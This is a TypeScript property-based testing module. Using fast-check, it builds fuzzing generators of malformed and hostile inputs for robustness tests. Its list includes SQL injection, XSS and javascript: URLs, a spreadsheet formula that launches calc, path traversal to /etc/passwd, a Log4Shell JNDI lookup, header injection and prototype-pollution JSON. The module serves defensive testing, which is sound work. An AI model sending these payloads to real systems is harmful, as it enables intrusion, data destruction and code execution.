import fc from 'fast-check';

const LONE_SURROGATE = '\ud800';

/** Texts that have broken other software: each is valid JSON, and most of them are valid text. */
const TEXTS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0001\u0008\u001b[31m\u007f',
  'a\r\nSet-Cookie: a=b',
  'a\nBEGIN:VEVENT',
  LONE_SURROGATE,
  `a\udfff${LONE_SURROGATE}`,
  '\u202egnp.exe',
  '\ufeff\u200b\u200d',
  '👩‍👩‍👧‍👦é漢字',
  'مرحبا',
  '__proto__',
  'constructor',
  'toString',
  "' or 1=1; drop table tickets --",
  '%_\\',
  '"*" OR near(a b)',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '[x](javascript:alert(1)) ![y](data:text/html,z)',
  '=cmd|"/c calc"!A1',
  '@SUM(1+1)',
  '../../etc/passwd',
  '..\\..\\windows',
  '%00',
  '%',
  '{{constructor.constructor("return 1")()}}',
  '${jndi:ldap://example.com/a}',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9007199254740993',
  '0000-00-00',
  '2025-02-30',
  '9999-12-31T23:59:59.999Z',
  '+275760-09-13T00:00:00.000Z',
  '2025-03-07T16:00:00+99:99',
  'user:default/',
  'user:',
  ':/',
  'user:default/a b',
  'group:default/nobody',
  '((((((((((a*)*)*)*)*)*)*)*)*)*$',
];

/** A text nobody meant. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(300, 5_000, 70_000).map(it => 'x'.repeat(it)),
  },
);

const NUMBERS = [
  0,
  -0,
  -1,
  0.5,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
  Number.MIN_VALUE,
  8.64e15 + 1,
];

const nested = (depth: number) =>
  JSON.parse('['.repeat(depth) + ']'.repeat(depth));

/** A value nobody meant, of any type. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  { weight: 2, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}) },
  { weight: 1, arbitrary: fc.constantFrom(10, 1_000, 3_000).map(nested) },
  { weight: 1, arbitrary: fc.jsonValue() },
  {
    weight: 1,
    arbitrary: fc.constant(
      JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":1}}'),
    ),
  },
);
